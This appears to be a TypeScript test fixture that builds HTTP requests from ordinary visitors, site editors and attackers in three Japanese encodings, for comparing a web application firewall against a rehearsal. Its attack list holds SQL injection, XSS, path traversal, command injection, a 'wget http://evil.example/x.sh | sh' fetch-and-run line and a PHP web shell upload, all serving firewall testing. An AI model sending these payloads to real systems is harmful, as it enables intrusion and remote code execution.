// Requests for comparing the rehearsal with the real firewall: what visitors, editors and attackers send, in three encodings.

import { encode, type TargetEncoding } from '../../src/text/encode.ts';
import type { HttpRequest } from '../../src/waf/request.ts';

export interface Scene {
  name: string;
  request: HttpRequest;
}

const CHARSETS = ['utf-8', 'shift_jis', 'euc-jp'] as const;
const BROWSER: [string, string][] = [
  ['Host', 'www.example.jp'],
  ['User-Agent', 'Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:128.0) Gecko/20100101 Firefox/128.0'],
  ['Accept', 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8'],
  ['Accept-Language', 'ja,en-US;q=0.7,en;q=0.3'],
];

const bytes = (text: string, charset: TargetEncoding): string => encode(text, charset).bytes.toString('latin1');
const percent = (text: string, charset: TargetEncoding): string =>
  bytes(text, charset).replace(/[^\w.*-]/g, (c) =>
    c === ' ' ? '+' : `%${c.charCodeAt(0).toString(16).toUpperCase().padStart(2, '0')}`,
  );

type Fields = Record<string, string>;

const pairs = (fields: Fields, charset: TargetEncoding): string =>
  Object.entries(fields)
    .map(([name, value]) => `${percent(name, charset)}=${percent(value, charset)}`)
    .join('&');

const request = (method: string, uri: string, headers: [string, string][] = [], body = ''): HttpRequest => ({
  method,
  uri,
  protocol: 'HTTP/1.1',
  headers: [
    ...BROWSER,
    ...headers,
    ...(method === 'GET' ? [] : ([['Content-Length', String(body.length)]] as [string, string][])),
  ],
  body,
  remote: '127.0.0.1',
});

const get = (path: string, fields: Fields, charset: TargetEncoding): HttpRequest =>
  request('GET', Object.keys(fields).length > 0 ? `${path}?${pairs(fields, charset)}` : path);

const post = (path: string, fields: Fields, charset: TargetEncoding): HttpRequest =>
  request('POST', path, [['Content-Type', 'application/x-www-form-urlencoded']], pairs(fields, charset));

const BOUNDARY = '----WebKitFormBoundary7MA4YWxkTrZu0gW';

const multipart = (
  path: string,
  fields: Fields,
  charset: TargetEncoding,
  file?: [string, string, string],
): HttpRequest => {
  const parts = Object.entries(fields).map(
    ([name, value]) => `Content-Disposition: form-data; name="${name}"\r\n\r\n${bytes(value, charset)}`,
  );
  if (file)
    parts.push(
      `Content-Disposition: form-data; name="upfile"; filename="${bytes(file[0], charset)}"\r\nContent-Type: ${file[1]}\r\n\r\n${file[2]}`,
    );
  const body = `${parts.map((part) => `--${BOUNDARY}\r\n${part}\r\n`).join('')}--${BOUNDARY}--\r\n`;
  return request('POST', path, [['Content-Type', `multipart/form-data; boundary=${BOUNDARY}`]], body);
};

const json = (path: string, value: unknown): HttpRequest =>
  request('POST', path, [['Content-Type', 'application/json']], Buffer.from(JSON.stringify(value)).toString('latin1'));

const BENIGN: [string, Fields][] = [
  [
    '/contact/mail.cgi',
    { name: '山田 太郎', kana: 'ヤマダ タロウ', email: 'taro@example.jp', body: 'お見積りをお願いいたします。' },
  ],
  ['/search.php', { q: '表示 "完全一致" 検索' }],
  ['/search.php', { q: "O'Reilly の本" }],
  [
    '/bbs/bbs.cgi',
    {
      mode: 'regist',
      name: '名無し',
      sub: '能登の旅',
      comment: 'ソフト表示十分構造。\n>>12 それな\nhttp://www.example.jp/a.html',
    },
  ],
  ['/shop/cart.php', { item: '1024', size: 'Ｌ', color: '藍色', quantity: '2' }],
  ['/list.php', { category: '3', sort: 'price', page: '2' }],
  ['/reserve.php', { date: '2016-04-01', time: '10:30', persons: '4', note: '窓際・禁煙席で（子ども2名）' }],
  ['/enquete.cgi', { q1: 'はい', q2: '30～39歳', q3: '商品の包装 & 送料について; もう少し安く' }],
  ['/member/login.php', { id: 'tanaka', password: "p@ss'w0rd#1" }],
  [
    '/member/profile.php',
    { company: '株式会社「匠」', url: 'http://www.example.jp/', zip: '100-0001', address: '東京都千代田区千代田1-1' },
  ],
];

const ADMIN: [string, Fields][] = [
  [
    '/admin/entry.php',
    { title: '春のお知らせ', body: '<p style="color:red">新商品</p><a href="http://www.example.jp/">詳しく</a>' },
  ],
  [
    '/admin/entry.php',
    { title: '埋め込み', body: '<iframe src="https://www.youtube.com/embed/abc" width="560"></iframe>' },
  ],
  ['/admin/template.cgi', { text: '<script type="text/javascript">document.write(new Date());</script>' }],
  ['/admin/sql.php', { sql: "SELECT * FROM items WHERE name LIKE '%茶%' ORDER BY id DESC" }],
  ['/admin/sql.php', { sql: 'UPDATE member SET point = point + 10 WHERE id = 5; -- 加算' }],
  ['/admin/file.php', { path: '../images/top.jpg', action: 'rename' }],
  ['/admin/file.php', { file: '.htaccess', body: 'AddHandler cgi-script .cgi\nOptions +ExecCGI' }],
  ['/admin/edit.php', { file: 'index.php', source: '<?php echo htmlspecialchars($_POST["name"]); ?>' }],
  ['/admin/option.php', { css: 'body { background: url(../img/bg.gif); } /* 背景 */' }],
  ['/admin/mailmag.php', { from: 'info@example.jp', subject: 'お知らせ', text: 'To: 各位\nCc: なし\n本文です' }],
];

const ATTACK: [string, Fields][] = [
  ['/list.php', { id: "1' OR '1'='1" }],
  ['/list.php', { id: '1 UNION SELECT user,password FROM members--' }],
  ['/search.php', { q: '<script>alert(document.cookie)</script>検索' }],
  ['/search.php', { q: '"><img src=x onerror=alert(1)>' }],
  ['/page.php', { file: '../../../../etc/passwd' }],
  ['/page.php', { inc: 'http://evil.example/shell.txt?' }],
  ['/mail.cgi', { email: 'a@example.jp\r\nBcc: victim@example.net', body: '表' }],
  ['/ping.cgi', { host: '127.0.0.1; cat /etc/passwd' }],
  ['/run.php', { cmd: 'wget http://evil.example/x.sh | sh' }],
  ['/eval.php', { code: 'system($_GET["c"]);' }],
];

const GROUPS = { benign: BENIGN, admin: ADMIN, attack: ATTACK };

/** 30 forms in three encodings, by GET and POST, and some as multipart; then uploads, JSON, XML and odd requests. */
export function scenes(): Scene[] {
  const made: Scene[] = [];
  for (const charset of CHARSETS) {
    for (const [group, forms] of Object.entries(GROUPS)) {
      forms.forEach(([path, fields], n) => {
        const name = `${group} ${n} ${charset}`;
        made.push({ name: `${name} post`, request: post(path, fields, charset) });
        if (n % 2 === 0) made.push({ name: `${name} get`, request: get(path, fields, charset) });
        if (n % 3 === 0) made.push({ name: `${name} multipart`, request: multipart(path, fields, charset) });
      });
    }
    const upload = (file: [string, string, string]) => multipart('/upload.php', { title: '写真' }, charset, file);
    made.push({
      name: `upload jpg ${charset}`,
      request: upload(['写真.jpg', 'image/jpeg', '\xff\xd8\xff\xe0JFIF\0\x01']),
    });
    made.push({
      name: `upload csv ${charset}`,
      request: upload(['顧客 一覧.csv', 'text/csv', bytes('番号,氏名\r\n1,表\r\n', charset)]),
    });
    made.push({
      name: `upload php ${charset}`,
      request: upload(['shell.php', 'text/plain', '<?php system($_GET["c"]); ?>']),
    });
  }
  for (const [group, forms] of Object.entries(GROUPS))
    forms.forEach(([path, fields], n) => {
      made.push({
        name: `${group} ${n} json`,
        request: json(path, { ...fields, nested: { list: [fields, 1, null, true] } }),
      });
    });
  const cookie = (value: string) => request('GET', '/', [['Cookie', value]]);
  made.push(
    { name: 'plain page', request: get('/index.html', {}, 'utf-8') },
    { name: 'session cookie', request: cookie('PHPSESSID=0a1b2c3d4e5f; __utma=1.2.3.4; name=%E5%B1%B1%E7%94%B0') },
    { name: 'attack in a cookie', request: cookie("id=1' OR 1=1--; a=<script>alert(1)</script>") },
    {
      name: 'scanner',
      request: {
        ...get('/', {}, 'utf-8'),
        headers: [
          ['Host', 'www.example.jp'],
          ['User-Agent', 'sqlmap/1.0'],
          ['Accept', '*/*'],
        ],
      },
    },
    { name: 'referer', request: request('GET', '/', [['Referer', 'http://www.google.co.jp/search?q=%E8%A1%A8']]) },
    { name: 'own referer with quotes', request: request('GET', '/', [['Referer', 'http://www.example.jp/s?q="a"']]) },
    {
      name: 'host is an address',
      request: { ...get('/', {}, 'utf-8'), headers: [['Host', '192.0.2.1'], ...BROWSER.slice(1)] },
    },
    {
      name: 'no user agent',
      request: { ...get('/', {}, 'utf-8'), headers: BROWSER.filter(([name]) => name !== 'User-Agent') },
    },
    { name: 'put', request: request('PUT', '/a.txt', [['Content-Type', 'text/plain']], 'abc') },
    { name: 'feed', request: get('/feed/rss.xml', {}, 'utf-8') },
    { name: 'backup file', request: get('/config.php.bak', {}, 'utf-8') },
    { name: 'htpasswd', request: get('/.htpasswd', {}, 'utf-8') },
    { name: 'broken json', request: request('POST', '/api', [['Content-Type', 'application/json']], '{"a":') },
    {
      name: 'xml',
      request: request(
        'POST',
        '/xmlrpc.php',
        [['Content-Type', 'text/xml']],
        '<?xml version="1.0"?><methodCall><methodName>metaWeblog.newPost</methodName><params><param><value><string>&lt;b&gt;</string></value></param></params></methodCall>',
      ),
    },
    { name: 'plain percent sign', request: request('GET', '/s?q=100%&r=50%25') },
    { name: 'twice the same field', request: request('GET', '/s?a=1&a=2&b[]=3&b[]=4') },
    { name: 'path with Japanese', request: request('GET', '/%E5%95%86%E5%93%81/%E8%8C%B6.html') },
    { name: 'path in Shift_JIS', request: request('GET', '/%8F%A4%95i/index.html') },
  );
  return made;
}
